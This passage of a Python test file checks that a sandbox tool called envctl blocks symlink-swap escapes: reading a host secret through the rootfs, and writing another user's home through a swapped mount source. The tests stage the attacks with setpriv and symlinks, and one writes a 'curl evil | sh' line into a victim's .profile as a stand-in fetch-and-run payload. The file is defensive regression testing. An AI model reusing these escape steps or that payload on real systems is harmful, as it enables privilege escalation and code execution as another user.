                    f"rm {conf} && ln -s {secret} {conf}"], check=True)
    # The operator's next up, or no operator at all: the monitor's heal (its default) repairs
    # the "drift".
    res = (sb.envctl("up", "box") if trigger == "up" else
           sb.envctl("monitor", "--once", "--heal"))
    inside = ex(sb, "setpriv", f"--groups={shadow_gid}", "cat", "/etc/app.conf")
    mode = oct(secret.stat().st_mode & 0o7777)
    assert "host-secret-hash" not in inside.stdout and mode in ("0o640", "0o600"), (
        f"root inside read the host's {target} file through the rootfs (second up: "
        f"{res.returncode} {res.stderr.strip()[:200]}); the host file's mode is now {mode}")
    if trigger == "heal":  # the monitor's event log (and its lock) stay, as history
        res = sb.envctl("down", "box", "--purge")
        assert res.returncode == 0, res.stderr
        residue = sb.residue()
        assert residue.pop("state_dir", None) == ["events.jsonl", "lock"], residue
        assert residue == {}, residue
    else:
        down_box(sb, purge=True)


# ESCAPE (fixed) (host write: another host user's home, through a swapped mount source).
def test_a_swapped_mount_source_never_binds_another_users_home(sandbox, public_dir):
    """An operator's data mount `{source: /srv/team/data, target: /srv}` in a directory alice
    can write (her team's): alice replaces `data` by a symlink to bob's 0700 home. The
    next `up` (or heal) binds what the symlink names (`open_source`: an operator's source is
    followed through symlinks), read-write; root inside writes bob's files (DAC_OVERRIDE over
    every mapped uid): bob's ~/.profile runs on the host as bob at his next login."""
    sb = sandbox
    team = public_dir / "team"
    team.mkdir()
    os.chown(team, 1000, 1000)
    data = team / "data"
    data.mkdir()
    os.chown(data, 1000, 1000)
    bob = public_dir / "home-bob"
    bob.mkdir(mode=0o700)
    os.chown(bob, 1001, 1001)
    profile = bob / ".profile"
    profile.write_text("# bob's\n")
    os.chown(profile, 1001, 1001)
    profile.chmod(0o644)
    sb.write_spec("box", "name: box\nkind: cpu\nrootfs:\n  binaries: [sh, echo]\n"
                  f"mounts:\n  - {{source: \"{data}\", target: /srv}}\n")
    # A source in a directory alice can change is refused outright (safepath's
    # root-controlled chain); the attack needs the directory handed to her after an up.
    res = sb.envctl("up", "box")
    assert res.returncode == 2 and f"{team} is owned by uid 1000" in res.stderr, res.stderr
    os.chown(team, 0, 0)
    res = sb.envctl("up", "box")
    assert res.returncode == 0, res.stderr
    os.chown(team, 1000, 1000)
    res = sb.envctl("down", "box")
    assert res.returncode == 0, res.stderr
    subprocess.run(["setpriv", "--reuid=1000", "--regid=1000", "--clear-groups", "sh", "-c",
                    f"rmdir {data} && ln -s {bob} {data}"], check=True)
    res = sb.envctl("up", "box")
    inside = ex(sb, "sh", "-c", "echo 'curl evil | sh' >> /srv/.profile; echo done")
    assert "evil" not in profile.read_text(), (
        f"root inside wrote bob's {profile} through the swapped mount source (up: "
        f"{res.returncode} {res.stderr.strip()[:200]}; {inside.stdout.strip()})")
    down_box(sb)


def test_a_link_to_a_file_that_is_no_longer_roots_alone_is_replaced_by_a_copy(sandbox,
                                                                            public_dir):
    """A tree an older envctl built (or a file whose owner changed since): the rootfs holds
    the host's own inode of a file another user may now write. `status` calls it drifted,
    and `up` puts a copy in its place, which her later writes do not reach."""
    sb = sandbox
    tool = public_dir / "tool"
    tool.write_text("#!/bin/sh\necho original\n")
    tool.chmod(0o755)  # root's alone: linked
    sb.write_spec("box", f"name: box\nkind: cpu\nrootfs:\n  binaries: [sh, \"{tool}\"]\n")
    res = sb.envctl("up", "box")
    assert res.returncode == 0, res.stderr
    placed = next(p for p in (sb.state / "rootfs" / "box").rglob("tool"))
    assert placed.stat().st_ino == tool.stat().st_ino  # the link
    os.chown(tool, 1000, 1000)  # alice's now
    res = sb.envctl("status", "box", "--check")
    assert res.returncode == 1 and "linked, not root's alone" in res.stdout, res.stdout
    res = sb.envctl("up", "box")
    assert res.returncode == 0, res.stderr
    assert placed.stat().st_ino != tool.stat().st_ino  # a copy
    subprocess.run(["setpriv", "--reuid=1000", "--regid=1000", "--clear-groups", "sh", "-c",
                    f"printf '#!/bin/sh\\necho rewritten-by-alice\\n' > {tool}"], check=True)
    inside = ex(sb, "/" + str(placed.relative_to(sb.state / "rootfs" / "box")))
    assert inside.stdout.strip() == "original", inside.stdout + inside.stderr
    down_box(sb, purge=True)
